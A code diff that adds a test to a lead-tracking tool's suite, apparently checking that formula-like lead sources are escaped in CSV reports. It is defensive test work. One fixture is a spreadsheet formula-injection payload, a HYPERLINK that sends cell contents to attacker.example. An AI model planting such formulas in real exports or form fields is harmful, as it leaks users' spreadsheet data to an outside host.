@@ -274,3 +274,23 @@ async def reject_one(url: str, *, reason: str) -> None:
     finally:
         await uow.aclose()
         await db.dispose()
+
+
+def test_a_group_named_like_a_formula_is_written_to_the_csv_as_text(tmp_path: Path) -> None:
+    # A lead's source comes from a web form: a spreadsheet opening the CSV must not run it.
+    formula = '=HYPERLINK("https://attacker.example/?"&A1,"Click")'
+    leads = tmp_path / "leads.csv"
+    with leads.open("w", newline="") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["id", "email", "company", "country", "source"])
+        writer.writerow(["F-1", "a@formula.example", "Formula Inc", "US", formula])
+        writer.writerow(["F-2", "b@plain.example", "Plain Ltd", "US", "@SUM(1+1)"])
+    url = f"sqlite+aiosqlite:///{tmp_path / 'leads.db'}"
+    code, _, stderr = run(url, "import", str(leads))
+    assert code == 0, stderr
+
+    code, stdout, stderr = run(url, "report", "--csv", "--by", "source")
+
+    assert code == 0, stderr
+    groups = {row["group"] for row in csv.DictReader(io.StringIO(stdout))}
+    assert groups == {"'" + formula, "'@SUM(1+1)"}
